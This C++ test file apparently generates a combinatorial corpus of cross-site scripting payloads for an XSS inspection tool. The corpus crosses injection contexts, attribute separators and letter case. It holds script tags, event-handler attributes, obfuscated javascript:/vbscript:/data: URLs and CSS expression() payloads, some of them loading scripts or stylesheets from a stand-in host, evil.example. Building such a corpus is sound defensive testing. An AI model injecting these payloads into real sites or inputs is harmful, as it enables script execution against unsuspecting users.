// Entries times carriers times separators times case.
#include "tests/inspect/xss/generated_attacks.h"

#include <array>
#include <cctype>

namespace gabion::inspect::xss {
namespace {

/// ' ' in a carrier is replaced by a separator of attributes.
struct Carrier {
  std::string_view kind;
  std::string_view text;
};

constexpr auto kTags = std::to_array<Carrier>({
    {"element", "<script>alert(1)</script>"},
    {"element", "<script src=//evil.example/x.js></script>"},
    {"element", "<iframe src=//evil.example>"},
    {"element", "<object data=x.swf>"},
    {"element", "<embed src=x.swf>"},
    {"element", "<base href=//evil.example/>"},
    {"element", "<link rel=stylesheet href=//evil.example/x.css>"},
    {"element", "<meta http-equiv=refresh content=0>"},
    {"element", "<x:script xmlns:x=http://www.w3.org/1999/xhtml>"},
    {"element", "<style>@import//evil.example</style>"},
    {"handler", "<img src='x' onerror=alert(1)>"},
    {"handler", "<svg onload=alert(1)>"},
    {"handler", "<body onpageshow=alert(1)>"},
    {"handler", "<b onpointerrawupdate=alert(1)>"},
    {"handler", "<tag oncontentvisibilityautostatechange=alert(1)>"},
    {"handler", "<div title=\"a>b\" onmouseover=alert(1)>"},
    {"handler", "<a onfutureevent=alert(1)>"},
    {"handler", "<details open ontoggle='alert(1)'"},
    {"url", "<a href=javascript:alert(1)>"},
    {"url", "<a href=\"java&#115;cript:alert(1)\">"},
    {"url", "<a href='&#x6A;avascript&colon;alert(1)'>"},
    {"url", "<a href=\"java\tscript:alert(1)\">"},
    {"url", "<a href=\"\x01javascript:alert(1)\">"},
    {"url", "<form action=vbscript:msgbox(1)>"},
    {"url", "<a href=data:text/html;base64,PHNjcmlwdD4=>"},
    {"url", "<img src=data:image/svg+xml;base64,PHN2Zz4=>"},
    {"url", "<button formaction=javascript:alert(1)>"},
    {"style", "<div style=width:expression(alert(1))>"},
    {"style", "<p style=\"background:url(javascript:alert(1))\">"},
    {"srcdoc", "<q srcdoc=x>"},
});

constexpr auto kAttributes = std::to_array<Carrier>({
    {"handler", " onmouseover=alert(1)"},
    {"handler", " autofocus onfocus=alert(1)"},
    {"handler", " style='x' onanimationend=alert(1)"},
    {"url", " href=javascript:alert(1)"},
    {"style", " style=width:expression(alert(1))"},
});

constexpr auto kTextEntries =
    std::to_array<std::string_view>({"", "hello ", "\">", "'>", "x>", "</title>", "</textarea>", "-->",
                                     "a < b and c > d ", "<b>bold</b> \"quoted\" it's "});
constexpr auto kTagEntries = std::to_array<std::string_view>({"\"", "x\"", "'", "Jane's", "`", "5 \" ", "x"});
constexpr auto kSeparators = std::to_array<std::string_view>({" ", "/", "\t", "\n", "\f", "\r\n", " / "});

std::string spelt(std::string_view text, std::string_view separator, bool upper) {
  std::string out;
  for (const char c : text) {
    if (c == ' ') {
      out += separator;
    } else {
      out += upper ? static_cast<char>(std::toupper(static_cast<unsigned char>(c))) : c;
    }
  }
  return out;
}

}  // namespace

std::vector<GeneratedAttack> generated_attacks() {
  std::vector<GeneratedAttack> attacks;
  for (const std::string_view separator : kSeparators) {
    for (const bool upper : {false, true}) {
      for (const std::string_view entry : kTextEntries) {
        for (const Carrier& tag : kTags) {
          attacks.push_back({tag.kind, std::string(entry) + spelt(tag.text, separator, upper)});
        }
      }
      for (const std::string_view entry : kTagEntries) {
        for (const Carrier& attribute : kAttributes) {
          if (entry != "x" || separator.find('/') == std::string_view::npos) {  // in an unquoted value / is a letter
            attacks.push_back({attribute.kind, std::string(entry) + spelt(attribute.text, separator, upper)});
          }
        }
      }
    }
  }
  return attacks;
}

}  // namespace gabion::inspect::xss
